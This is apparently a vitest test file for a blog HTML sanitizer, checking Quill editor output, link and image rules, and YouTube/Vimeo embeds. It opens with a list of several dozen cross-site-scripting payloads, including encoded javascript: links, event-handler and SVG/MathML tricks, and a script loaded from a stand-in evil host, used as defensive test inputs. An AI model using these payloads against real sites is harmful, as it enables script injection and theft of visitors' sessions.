import fc from 'fast-check';
import sanitizeHtml from 'sanitize-html';
import { describe, expect, it } from 'vitest';
import { sanitizeBlogHtml, videoEmbedUrl } from './sanitize-blog-html.js';

const XSS_PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/xss.js></SCRIPT>',
  '"><script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://ok.example/a.png" onerror="alert(1)" onload=alert(2)>',
  '<img src=x:alert(alt) onerror=eval(src) alt=0>',
  '<img src="jav&#x0A;ascript:alert(1)">',
  '<img src="data:text/html,<script>alert(1)</script>">',
  '<img src="https://ok.example/a.png" srcset="javascript:alert(1) 1x">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jAvAsCrIpT:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="&#x6A;avascript&#x3A;alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="https://ok.example" onclick="alert(1)">x</a>',
  '<a xlink:href="javascript:alert(1)">x</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<p style="width: expression(alert(1))">x</p>',
  '<span style="color: expression(alert(1))">x</span>',
  '<p style="background-color: url(javascript:alert(1))">x</p>',
  '<span style="color: red; behavior: url(x.htc); -moz-binding: url(x.xml#xss)">x</span>',
  '<style>@import "javascript:alert(1)";</style>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="https://www.youtube.com/embed/abcdefgh" srcdoc="<script>alert(1)</script>" onload="alert(1)"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe src="https://evil.example/embed"></iframe>',
  '<form action="javascript:alert(1)"><input type="submit" formaction="javascript:alert(1)"></form>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<link rel="stylesheet" href="javascript:alert(1)">',
  '<body onload=alert(1)>',
  '<div onmouseover="alert(1)">hover</div>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<!--<img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
];

function decodeEntities(html: string): string {
  return html
    .replace(/&#x([0-9a-f]+);?/gi, (_, hex: string) => String.fromCodePoint(parseInt(hex, 16)))
    .replace(/&#(\d+);?/g, (_, decimal: string) => String.fromCodePoint(Number(decimal)))
    .replace(/&colon;/gi, ':')
    .replace(/&tab;|&newline;/gi, '')
    .replace(/&quot;/g, '"')
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&amp;/g, '&');
}

/** Every element and attribute in the output, as a browser-like parser reads it back. */
function elementsIn(html: string): Array<{ tag: string; attribs: Record<string, string> }> {
  const found: Array<{ tag: string; attribs: Record<string, string> }> = [];
  sanitizeHtml(html, {
    allowedTags: false,
    allowedAttributes: false,
    // Only reading the output back here, never rendering it.
    allowVulnerableTags: true,
    onOpenTag: (tag, attribs) => found.push({ tag, attribs }),
  });
  return found;
}

const ALLOWED_TAGS = new Set(['p', 'br', 'strong', 'em', 'u', 's', 'blockquote', 'pre', 'code', 'a', 'h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'ol', 'ul', 'li', 'sub', 'sup', 'span', 'img', 'iframe', 'div']);
const ALLOWED_ATTRIBUTES = new Set(['class', 'style', 'href', 'target', 'rel', 'src', 'alt', 'width', 'height', 'frameborder', 'allowfullscreen', 'data-list', 'data-language']);

function expectHarmless(output: string): void {
  const decoded = decodeEntities(output);
  expect(output).not.toMatch(/<script/i);
  expect(output).not.toMatch(/\son\w+\s*=/i);
  expect(decoded).not.toMatch(/javascript:|vbscript:|data:text\/html|expression\(/i);
  expect(output).not.toMatch(/srcdoc/i);
  for (const { tag, attribs } of elementsIn(output)) {
    expect(ALLOWED_TAGS, tag).toContain(tag);
    for (const name of Object.keys(attribs)) expect(ALLOWED_ATTRIBUTES, `${tag} ${name}`).toContain(name);
  }
}

describe('sanitizeBlogHtml: nothing executable survives', () => {
  it.each(XSS_PAYLOADS)('%s', (payload) => {
    const output = sanitizeBlogHtml(payload);

    expectHarmless(output);
    expect(sanitizeBlogHtml(output)).toBe(output);
  });

  it('keeps a known video frame but nothing inside it', () => {
    expect(sanitizeBlogHtml('<iframe src="https://youtu.be/abcdefgh">text<img src=x onerror=alert(1)></iframe>')).toBe(
      '<iframe src="https://www.youtube.com/embed/abcdefgh"></iframe>',
    );
  });

  it('keeps the harmless part of a payload', () => {
    expect(sanitizeBlogHtml('<img src="https://ok.example/a.png" onerror="alert(1)">')).toBe('<img src="https://ok.example/a.png" />');
    expect(sanitizeBlogHtml('<a href="javascript:alert(1)">x</a>')).toBe('<a href="about:blank" target="_blank" rel="noopener noreferrer">x</a>');
  });
});

describe('sanitizeBlogHtml: what Quill 2 writes survives', () => {
  it('keeps headers, formatting, lists, checklists, indents, colours, code, links, images and videos', () => {
    const quill = [
      '<h1>Finding a room in Lahore</h1>',
      '<h2 class="ql-align-center">Tips</h2>',
      '<p class="ql-align-right ql-direction-rtl">کمرہ کرائے پر</p>',
      '<p><strong>B</strong> <em>I</em> <u>U</u> <s>S</s> H<sub>2</sub>O x<sup>2</sup> <code>npm</code><br></p>',
      '<p><span style="color: rgb(230, 0, 0); background-color: rgb(255, 255, 0);">red</span> <span class="ql-font-serif ql-size-large" style="color: #06c;">serif</span></p>',
      '<ol><li data-list="ordered"><span class="ql-ui" contenteditable="false"></span>First</li>',
      '<li data-list="bullet" class="ql-indent-1"><span class="ql-ui" contenteditable="false"></span>Bullet</li>',
      '<li data-list="checked"><span class="ql-ui" contenteditable="false"></span>Done</li>',
      '<li data-list="unchecked" class="ql-indent-8"><span class="ql-ui" contenteditable="false"></span>To do</li></ol>',
      '<blockquote>Quote</blockquote>',
      '<div class="ql-code-block-container" spellcheck="false"><div class="ql-code-block" data-language="plain">const rent = 1;</div></div>',
      '<p><a href="https://kamra.pk/rooms" rel="noopener noreferrer" target="_blank">Rooms</a></p>',
      '<p><img src="https://cdn.example/pic.png" alt="room" width="300"></p>',
      '<iframe class="ql-video" frameborder="0" allowfullscreen="true" src="https://www.youtube.com/embed/dQw4w9WgXcQ?showinfo=0"></iframe>',
    ].join('');

    expect(sanitizeBlogHtml(quill)).toBe(
      [
        '<h1>Finding a room in Lahore</h1>',
        '<h2 class="ql-align-center">Tips</h2>',
        '<p class="ql-align-right ql-direction-rtl">کمرہ کرائے پر</p>',
        '<p><strong>B</strong> <em>I</em> <u>U</u> <s>S</s> H<sub>2</sub>O x<sup>2</sup> <code>npm</code><br /></p>',
        '<p><span style="color:rgb(230, 0, 0);background-color:rgb(255, 255, 0)">red</span> <span class="ql-font-serif ql-size-large" style="color:#06c">serif</span></p>',
        '<ol><li data-list="ordered"><span class="ql-ui"></span>First</li>',
        '<li data-list="bullet" class="ql-indent-1"><span class="ql-ui"></span>Bullet</li>',
        '<li data-list="checked"><span class="ql-ui"></span>Done</li>',
        '<li data-list="unchecked" class="ql-indent-8"><span class="ql-ui"></span>To do</li></ol>',
        '<blockquote>Quote</blockquote>',
        '<div class="ql-code-block-container"><div class="ql-code-block" data-language="plain">const rent = 1;</div></div>',
        '<p><a href="https://kamra.pk/rooms" rel="noopener noreferrer" target="_blank">Rooms</a></p>',
        '<p><img src="https://cdn.example/pic.png" alt="room" width="300" /></p>',
        '<iframe class="ql-video" frameborder="0" allowfullscreen="true" src="https://www.youtube.com/embed/dQw4w9WgXcQ"></iframe>',
      ].join(''),
    );
  });

  it('drops indent levels beyond 8, unknown classes and unsafe styles', () => {
    expect(sanitizeBlogHtml('<p class="ql-indent-9 evil ql-indent-3" style="position: fixed; text-align: center">x</p>')).toBe(
      '<p class="ql-indent-3" style="text-align:center">x</p>',
    );
  });
});

describe('sanitizeBlogHtml: link rules', () => {
  const linkTo = (href: string) => sanitizeBlogHtml(`<a href="${href}">x</a>`);
  const hrefOf = (href: string) => /href="([^"]*)"/.exec(linkTo(href))?.[1];

  it('keeps http, https, mailto and tel links and opens them safely', () => {
    expect(linkTo('https://kamra.pk')).toBe('<a href="https://kamra.pk" target="_blank" rel="noopener noreferrer">x</a>');
    expect(hrefOf('http://example.com/a?b=1&c=2')).toBe('http://example.com/a?b=1&amp;c=2');
    expect(hrefOf('mailto:rent@kamra.pk')).toBe('mailto:rent@kamra.pk');
    expect(hrefOf('tel:+92-300-1234567')).toBe('tel:+92-300-1234567');
  });

  it('turns an address-like link into a mailto: link', () => {
    expect(hrefOf('someone@example.com')).toBe('mailto:someone@example.com');
    expect(hrefOf(' ali.khan@mail.example.pk ')).toBe('mailto:ali.khan@mail.example.pk');
  });

  it('blanks every other link', () => {
    for (const href of ['ftp://files.example', 'sms:123', '/rooms/1', '#top', '//evil.example', 'www.example.com', 'file:///etc/passwd', '']) {
      expect(hrefOf(href), href).toBe('about:blank');
    }
  });

  it('accepts only http, https and data:image images', () => {
    const imageIn = (src: string) => sanitizeBlogHtml(`<p><img src="${src}"></p>`);
    expect(imageIn('https://cdn.example/a.png')).toBe('<p><img src="https://cdn.example/a.png" /></p>');
    expect(imageIn('http://cdn.example/a.png')).toBe('<p><img src="http://cdn.example/a.png" /></p>');
    expect(imageIn('data:image/png;base64,iVBORw0KGgo=')).toBe('<p><img src="data:image/png;base64,iVBORw0KGgo=" /></p>');
    for (const src of ['/uploads/a.webp', 'ftp://x/a.png', 'data:text/plain,hi', 'javascript:alert(1)']) {
      expect(imageIn(src), src).toBe('<p></p>');
    }
  });
});

describe('sanitizeBlogHtml: video embeds', () => {
  it.each([
    ['https://www.youtube.com/watch?v=dQw4w9WgXcQ', 'https://www.youtube.com/embed/dQw4w9WgXcQ'],
    ['youtube.com/watch?v=dQw4w9WgXcQ&t=42s', 'https://www.youtube.com/embed/dQw4w9WgXcQ'],
    ['https://m.youtube.com/watch?feature=share&v=dQw4w9WgXcQ', 'https://www.youtube.com/embed/dQw4w9WgXcQ'],
    ['https://youtu.be/dQw4w9WgXcQ?t=3', 'https://www.youtube.com/embed/dQw4w9WgXcQ'],
    ['https://www.youtube.com/embed/dQw4w9WgXcQ?showinfo=0', 'https://www.youtube.com/embed/dQw4w9WgXcQ'],
    ['https://vimeo.com/76979871', 'https://player.vimeo.com/video/76979871'],
    ['vimeo.com/76979871', 'https://player.vimeo.com/video/76979871'],
    ['https://player.vimeo.com/video/76979871/', 'https://player.vimeo.com/video/76979871'],
  ])('%s becomes %s', (link, embed) => {
    expect(videoEmbedUrl(link)).toBe(embed);
    expect(sanitizeBlogHtml(`<iframe class="ql-video" src="${link}"></iframe>`)).toBe(`<iframe class="ql-video" src="${embed}"></iframe>`);
  });

  it.each([
    'https://www.dailymotion.com/video/x7tgad0',
    'https://youtube.com.evil.example/watch?v=dQw4w9WgXcQ',
    'https://evil.example/?u=youtube.com/watch?v=dQw4w9WgXcQ',
    'javascript://youtube.com/watch?v=dQw4w9WgXcQ',
    'https://vimeo.com/channels/staffpicks',
    'https://www.youtube.com/watch?v=%22onload%3D',
  ])('removes any other frame: %s', (link) => {
    expect(videoEmbedUrl(link)).toBeUndefined();
    expect(sanitizeBlogHtml(`<p>a</p><iframe src="${link}"><p>inside</p></iframe><p>b</p>`)).toBe('<p>a</p><p>b</p>');
  });
});

describe('sanitizeBlogHtml: properties', () => {
  const fragments = fc.constantFrom(
    '<script>', '</script>', '<p>', '</p>', '<a href="', '<img src=', '<iframe src="', '</iframe>', '">', '"', "'",
    ' onerror=', 'javascript:', 'jAvA&#115;cript:', '&#106;', '&amp;', '&', '<', '>', '/', '<!--', '-->', '<svg>',
    '<style>', '<scr', 'ipt>', 'youtu.be/abcdefgh', 'someone@example.com', '<li data-list="checked">', ' class="ql-indent-2"',
    ' style="color: red"', '<br>', '<![CDATA[', ']]>', '<xmp>', '<noscript>', '<textarea>', '<x>', '<A!>',
    '<ul>', '<ol>', '<li>', '</li>', '<div>', '</div>', '<pre>', '<h1>', '</h2>', '<table>', '<td>', '<select>',
    '<option>', '<blockquote>', '<span>', '</span>', '<math>', '<template>', '<plaintext>', '<br/>', '</br>', '<p/>',
  );
  const htmlish = fc.array(fc.oneof(fragments, fc.string()), { maxLength: 25 }).map((parts) => parts.join(''));

  it('repairs nesting the way a browser would, so the output reads back as itself', () => {
    expect(sanitizeBlogHtml('<p><x><p>')).toBe('<p></p><p></p><p></p>');
  });

  it('never lets a script through, and a second pass changes nothing', () => {
    fc.assert(
      fc.property(fc.oneof(fc.string(), htmlish), (input) => {
        const once = sanitizeBlogHtml(input);
        expect(once).not.toMatch(/<script/i);
        expect(sanitizeBlogHtml(once)).toBe(once);
      }),
      { numRuns: 1000 },
    );
  });
});
